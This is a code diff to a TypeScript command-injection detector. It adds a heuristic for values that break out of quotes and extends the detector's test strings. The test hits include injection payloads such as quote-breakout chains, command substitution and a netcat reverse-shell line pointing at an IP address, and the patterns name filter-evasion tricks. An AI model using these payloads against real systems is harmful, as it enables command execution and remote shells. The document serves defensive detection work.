@@ -9,6 +9,21 @@ const runner =
 /** The end of a word, a word, and the beginning of a third. */
 const threeWords = /\w\W+\w+\W+\w/;
 
+/** The end of a value that leaves a quote open behind it, or makes a comment of what follows it. */
+const reopened = /[\s;|&]["'`]\s{0,8}$|[\s;]#\s{0,8}$/;
+const reopenedMax = 16;
+
+/** Whether a separator, and what it separates from, follow a quote that nothing in the text has opened. */
+function leavesQuotes(text: string, from: number): boolean {
+  let at = from - 1;
+  while (at >= 0 && /[\s;|&]/.test(text[at] ?? '')) at -= 1;
+  const quote = text[at];
+  if (at === from - 1 || (quote !== '"' && quote !== "'")) return false;
+  let isOdd = false;
+  for (let one = text.indexOf(quote); one >= 0 && one <= at; one = text.indexOf(quote, one + 1)) isOdd = !isOdd;
+  return isOdd;
+}
+
 /** Commands of a shell where a value belongs (CWE-78), and code that runs one (CWE-94). A word alone is none: it needs a separator, arguments, or both. */
 export const commandInjection = defineAttack({
   id: 'command-injection',
@@ -34,6 +49,8 @@ export const commandInjection = defineAttack({
     'chained-alone': 'begins a command behind a separator and ends',
     substituted: 'puts a command where its output belongs',
     arguments: 'gives a command its arguments',
+    'leaves-quotes': 'closes the quotes that it stands in and begins a command',
+    reopened: 'leaves quotes open for what follows, or makes a comment of it',
     'by-path': 'names a program by its path',
     'bare-command': 'is a command with arguments',
     'blank-variable': 'writes its blanks so that a filter does not see them',
@@ -44,7 +61,7 @@ export const commandInjection = defineAttack({
     code: 'calls a function that runs what it is given',
   },
   look({ text, signs }, _field, note) {
-    for (const { lead, isCommon, hasArguments, hasPlainArguments, isAlone, isListed, isByPath, start, end } of commandsOf(text)) {
+    for (const { lead, isCommon, hasArguments, hasPlainArguments, hasFile, isAlone, isListed, isByPath, start, end } of commandsOf(text)) {
       const isStrong = !isCommon || isByPath;
       if (lead === 'start') {
         if (
@@ -69,7 +86,7 @@ export const commandInjection = defineAttack({
       }
       if (lead === 'pipe' && isListed && !isByPath && !hasPlainArguments) continue;
       if (lead === 'substitution') {
-        if (isStrong || hasArguments || isAlone) note('substituted', start, end);
+        if (isStrong || hasArguments || hasFile || isAlone) note('substituted', start, end);
       } else if (isStrong && ((lead !== 'ampersand' && lead !== 'line') || hasArguments || isAlone)) note('chained', start, end);
       else if (hasPlainArguments) note('chained', start, end);
       else if (
@@ -79,8 +96,12 @@ export const commandInjection = defineAttack({
         !/\w\s+\S*\w\W*\s|[a-z];\s/i.test(text.slice(0, start + 1))
       )
         note('chained-alone', start, end);
-      if (hasArguments) note('arguments', start, end);
+      if (hasArguments || hasFile) note('arguments', start, end);
       if (isByPath) note('by-path', start, end);
+      if (!leavesQuotes(text, start)) continue;
+      note('leaves-quotes', start, end);
+      const open = reopened.exec(text.slice(-reopenedMax));
+      if (open) note('reopened', text.length - open[0].length, text.length);
     }
     if ((signs & sign.dollar) !== 0 && /\$\{?IFS\b/.test(text)) note('blank-variable', text.indexOf('IFS'), text.indexOf('IFS') + 3);
     const broken = /\b(?:c['"\\]+a['"\\]*t|w['"\\]*h['"\\]+o['"\\]*a|\/[?*][?*a-z]{1,12}\/[?*a-z]{0,12}[?*]|\$\{\w+:\d+:\d+\})/i.exec(text);
@@ -108,10 +129,19 @@ export const commandInjection = defineAttack({
       "system('id')",
       '| nc -e /bin/sh 10.0.0.1 4444',
       '/bin/sh',
+      'label"; cat notes.txt; echo "',
+      "a' | tail orders.csv #",
+      'name"\nid\necho "',
+      '$(cat notes.txt)',
+      '`id 1>&2`',
     ],
     misses: [
       'Tom & Jerry',
       'salt; find out more',
+      'He said "hello"; find the cat',
+      'a 12" | cat toy',
+      "the Jones'; last orders",
+      'dog photo.jpg; cat photo.jpg',
       'cat',
       'R&D and Marketing',
       'ls 300 lexus',
